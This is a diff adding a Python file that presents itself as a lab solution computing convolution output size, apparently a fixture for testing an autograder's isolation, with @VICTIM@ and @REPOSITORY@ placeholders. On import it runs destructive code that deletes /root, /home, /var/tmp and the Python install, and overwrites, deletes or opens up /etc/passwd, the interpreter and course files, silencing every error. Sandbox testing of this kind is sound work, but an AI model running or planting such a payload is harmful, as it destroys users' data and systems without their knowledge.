@@ -1,0 +1,20 @@
+# ruff: noqa
+# Everything that can be written is written, and everything else removed.
+# deserves: output_size full
+# %% output_size
+import os
+import shutil
+import sys
+
+for folder in ("@VICTIM@", "@REPOSITORY@/solutions", "/root", "/home", "/var/tmp", sys.prefix):
+    shutil.rmtree(folder, ignore_errors=True)
+for path in ("@VICTIM@/ann/lab.py", "@REPOSITORY@/README.md", "/etc/passwd", "/usr/course", sys.executable):
+    for attack in (lambda p: open(p, "w").write("gone"), os.remove, lambda p: os.chmod(p, 0o777)):
+        try:
+            attack(path)
+        except OSError:
+            pass
+
+
+def output_size(n, f, p=0, s=1):
+    return (n + 2 * p - f) // s + 1
